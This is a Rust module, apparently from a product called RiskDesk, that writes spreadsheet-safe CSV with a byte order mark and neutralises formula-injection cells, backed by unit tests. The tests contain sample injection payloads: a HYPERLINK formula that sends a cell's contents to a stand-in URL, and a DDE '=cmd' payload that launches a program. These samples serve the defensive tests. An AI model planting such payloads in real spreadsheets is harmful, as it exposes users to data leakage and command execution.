//! CSV written for spreadsheets, safely.
//!
//! A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
//! Excel, LibreOffice and Google Sheets ("CSV injection"). As OWASP recommends, such a cell
//! is written with a leading apostrophe, which spreadsheets show as text; every RiskDesk
//! import removes that apostrophe again, so an export imports back to the original text.
//!
//! Every file starts with the UTF-8 byte order mark, as Excel's own "CSV UTF-8" does: without
//! it Excel opens a CSV in the system's code page (Big5 on a Taiwanese Windows), and every
//! Chinese name in it comes out garbled. Every RiskDesk import reads past the mark.

use crate::{Error, Result};

const TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// The cell as it is safe to write.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(TRIGGERS) || is_neutralised(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

fn is_neutralised(cell: &str) -> bool {
    cell.strip_prefix('\'')
        .is_some_and(|rest| rest.starts_with(TRIGGERS) || is_neutralised(rest))
}

/// The original text of a cell written by [`neutralise`].
pub fn restore(cell: &str) -> &str {
    if is_neutralised(cell) {
        &cell[1..]
    } else {
        cell
    }
}

/// A row that cannot be read, in words: with an unclosed quote the reader takes the rest
/// of the file as one field, so the row it reports (where the quote opened) is short.
pub fn describe_row_error(e: &csv::Error) -> String {
    match e.kind() {
        csv::ErrorKind::UnequalLengths {
            expected_len, len, ..
        } if len < expected_len => format!(
            "this row has {} where the header has {expected_len}; if a quote (\") opens on this line and is never closed, close it",
            crate::english::count(len, "field", "fields")
        ),
        csv::ErrorKind::UnequalLengths {
            expected_len, len, ..
        } => format!(
            "this row has {len} fields where the header has {expected_len}; quote cells that contain the separator (, or ;)"
        ),
        csv::ErrorKind::Utf8 { .. } => "this row is not UTF-8 text; save the file as CSV UTF-8".into(),
        _ => format!("cannot read this row: {e}"),
    }
}

/// The byte order mark a spreadsheet needs to read the file as UTF-8.
pub const BOM: &[u8] = "\u{feff}".as_bytes();

/// A CSV file for spreadsheets on `out`: the byte order mark, then `headers`; each row is
/// added with [`Sheet::row`], every cell neutralised.
pub struct Sheet<W: std::io::Write> {
    w: csv::Writer<W>,
}

fn write_error(e: impl std::fmt::Display) -> Error {
    Error::Invalid(format!("cannot write the CSV: {e}"))
}

impl<W: std::io::Write> Sheet<W> {
    pub fn new(mut out: W, headers: &[&str]) -> Result<Self> {
        out.write_all(BOM)?;
        let mut w = csv::Writer::from_writer(out);
        w.write_record(headers).map_err(write_error)?;
        Ok(Sheet { w })
    }

    pub fn row<S: AsRef<str>>(&mut self, cells: &[S]) -> Result<()> {
        self.w
            .write_record(cells.iter().map(|c| neutralise(c.as_ref()).into_owned()))
            .map_err(write_error)
    }

    /// Flushes what is written and gives `out` back.
    pub fn finish(self) -> Result<W> {
        self.w.into_inner().map_err(write_error)
    }
}

/// A header and rows as a spreadsheet's CSV file ([`Sheet`]).
pub fn write<S: AsRef<str>>(headers: &[&str], rows: &[Vec<S>]) -> Result<Vec<u8>> {
    let mut sheet = Sheet::new(Vec::new(), headers)?;
    for r in rows {
        sheet.row(r)?;
    }
    sheet.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_restored() {
        for cell in [
            "=HYPERLINK(\"http://x\"&A1;\"click\")",
            "@SUM(1+1)",
            "+886 2 1234 5678",
            "-5",
            "\tx",
            "\rx",
            "'=already",
            "''=twice",
            "'plain apostrophe",
            "plain",
            "",
        ] {
            let n = neutralise(cell);
            assert!(!n.starts_with(TRIGGERS), "{cell:?}");
            assert_eq!(restore(&n), cell, "{cell:?}");
        }
        assert_eq!(neutralise("=1+1"), "'=1+1");
        assert_eq!(neutralise("'plain apostrophe"), "'plain apostrophe");
    }

    /// What Excel on a Taiwanese Windows needs to show the names: the byte order mark first,
    /// then the header; the cells neutralised, and the file reads back to the same text.
    #[test]
    fn a_sheet_starts_with_the_byte_order_mark_and_reads_back() {
        let rows = vec![vec!["雲橋科技股份有限公司", "=cmd|' /C calc'!A0"]];
        let bytes = write(&["customer", "note"], &rows).unwrap();
        assert!(
            bytes.starts_with(b"\xEF\xBB\xBFcustomer,note\n"),
            "{bytes:?}"
        );
        let text = std::str::from_utf8(&bytes[BOM.len()..]).unwrap();
        assert!(text.contains("雲橋科技股份有限公司,'=cmd"), "{text}");
        let mut r = csv::Reader::from_reader(&bytes[BOM.len()..]);
        let row = r.records().next().unwrap().unwrap();
        assert_eq!(restore(&row[1]), rows[0][1]);
        assert_eq!(&row[0], rows[0][0]);
    }
}
